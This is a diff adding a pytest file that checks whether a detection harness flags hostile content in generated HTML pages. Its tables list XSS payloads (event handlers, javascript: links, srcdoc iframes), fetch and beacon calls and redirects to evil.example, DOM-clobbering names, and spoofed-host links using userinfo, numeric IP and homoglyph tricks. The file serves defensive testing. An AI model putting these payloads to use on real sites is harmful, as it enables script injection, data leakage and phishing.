@@ -1,0 +1,95 @@
+"""The traps themselves: what a page without any defence does is noticed, each way of it."""
+
+import asyncio
+
+import pytest
+
+from tests.hostile.serve import served
+from tests.hostile.traps import Seen, hunt
+
+HARMLESS = "<!doctype html><title>x</title><script>document$=1</script>"
+POLICY = "<meta http-equiv=Content-Security-Policy content=\"img-src 'self'\">"
+PAGES = {
+    "script": ("ran", "<script>__ran(1)</script>"),
+    "handler": ("ran", "<img src=x onerror=__ran(1)>"),
+    "alert": ("ran", "<svg onload=alert(1)>"),
+    "later": ("ran", "<script>setTimeout(() => __ran(1), 20)</script>"),
+    "link": ("ran", "<a href='javascript:__ran(1)'>x</a>"),
+    "link-with-tab": ("ran", "<a href='java&Tab;script:__ran(1)'>x</a>"),
+    "link-in-svg": ("ran", "<svg><a href='javascript:__ran(1)'><text y=20>x</text></a></svg>"),
+    "hover": ("ran", "<b onmouseover=__ran(1)>x</b>"),
+    "focus": ("ran", "<b tabindex=0 onfocus=__ran(1)>x</b>"),
+    "click": ("ran", "<b onclick=__ran(1)>x</b>"),
+    "contents-list": ("ran", "</div><nav class=md-sidebar--secondary><b onmouseenter=__ran(1)>x</b></nav>"),
+    "details": ("ran", "<details ontoggle=__ran(1)><summary>x</summary>y</details>"),
+    "frame": ("ran", "<iframe srcdoc='<script>__ran(1)</script>'></iframe>"),
+    "popup": ("ran", "<a href='javascript:open(\"/x\")'>x</a>"),
+    "blank": ("ran", "<script>document.createElement('a').click.call(Object.assign(document.body.appendChild(document.createElement('a')),{href:'javascript:__ran(1)'}))</script>"),
+    "image": ("foreign", "<img src=https://evil.example/x.png>"),
+    "image-http": ("foreign", "<img src=http://evil.example/x.png>"),
+    "image-relative": ("foreign", "<img src=//evil.example/x.png>"),
+    "image-lazy": ("foreign", "<div style=height:9000px></div><img loading=lazy src=https://evil.example/x.png>"),
+    "loopback": ("foreign", "<img src=http://127.0.0.1:9/x.png>"),
+    "style": ("foreign", "<b style='background:url(https://evil.example/b)'>x</b>"),
+    "fetch": ("foreign", "<script>fetch('https://evil.example/').catch(() => 0)</script>"),
+    "beacon": ("foreign", "<script>navigator.sendBeacon('https://evil.example/')</script>"),
+    "refresh": ("left", "<meta http-equiv=refresh content='0;url=https://evil.example/'>"),
+    "refresh-inside": ("left", "<meta http-equiv=refresh content='0;url=/handler.html'>"),
+    "location": ("left", "<script>setTimeout(() => location = 'https://evil.example/', 5)</script>"),
+    "download": ("downloads", "<a id=d download=x.txt href='data:text/plain,x'>x</a>"),
+    "clobbered": ("broke", "<script>document$=undefined</script>"),
+    "error": ("broke", "<script>nothing.at.all()</script>"),
+    "policy": ("blocked", "<img src=https://evil.example/x>"),
+}  # fmt: skip
+FORBIDDEN = {
+    "tag": ("<marquee>", "<marquee>x</marquee>"),
+    "handler-that-never-fires": ("handler", "<b onfullscreenerror=x>x</b>"),
+    "scheme": ("href data:", "<a href='data:text/html,x'>x</a>"),
+    "disguise": ("foreign href in disguise", "<a href='//evil.example/'>x</a>"),
+    "backslash": ("foreign href in disguise", "<a href='/\\evil.example/'>x</a>"),
+    "user": ("spoofed host", "<a href='https://gov.uk@evil.example/'>x</a>"),
+    "number": ("spoofed host", "<a href='https://3405803783/'>x</a>"),
+    "alike": ("spoofed host", "<a href='https://www.g\u043ev.uk/'>x</a>"),
+    "plain": ("http link", "<a href='http://evil.example/'>x</a>"),
+    "config": ("id __config", "<b id=__config>x</b>"),
+    "clobber": ("id getElementById", "<form name=getElementById></form>"),
+    "mermaid": ("class mermaid", "<pre class=mermaid>x</pre>"),
+    "tooltip": ("title with markup", "<a href=/ title='&lt;img>'>x</a>"),
+    "style-attribute": ("style", "<p style='position:fixed'>x</p>"),
+}
+
+
+@pytest.fixture(scope="module")
+def seen(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Seen]:
+    """What the traps said of each page, and of one that does nothing."""
+    folder = tmp_path_factory.mktemp("traps")
+    pages = {"harmless": "<p>x</p>"} | {
+        name: html for name, (_, html) in (PAGES | FORBIDDEN).items()
+    }
+    for name, html in pages.items():
+        head = HARMLESS + (POLICY if name == "policy" else "")
+        text = f"{head}<div class=md-content><article>{html}</article></div>"
+        (folder / f"{name}.html").write_text(text, encoding="utf-8")
+
+    async def visit(origin: str) -> list[Seen]:
+        async with hunt(origin) as hunter:
+            return await hunter.visit((f"{origin}{name}.html" for name in pages), wait=400)
+
+    with served(folder) as origin:
+        return dict(zip(pages, asyncio.run(visit(origin)), strict=True))
+
+
+@pytest.mark.parametrize("name", PAGES)
+def test_what_runs_asks_leaves_or_breaks_is_noticed(seen, name):
+    assert getattr(seen[name], PAGES[name][0]) != []
+
+
+@pytest.mark.parametrize("name", FORBIDDEN)
+def test_what_a_page_may_not_hold_is_noticed(seen, name):
+    assert FORBIDDEN[name][0] in seen[name].page["forbidden"]
+
+
+def test_a_page_that_does_nothing_is_left_in_peace(seen):
+    assert seen["harmless"].hurt == []
+    assert seen["harmless"].page["forbidden"] == []
+    assert seen["harmless"].page["hidden"] == ""
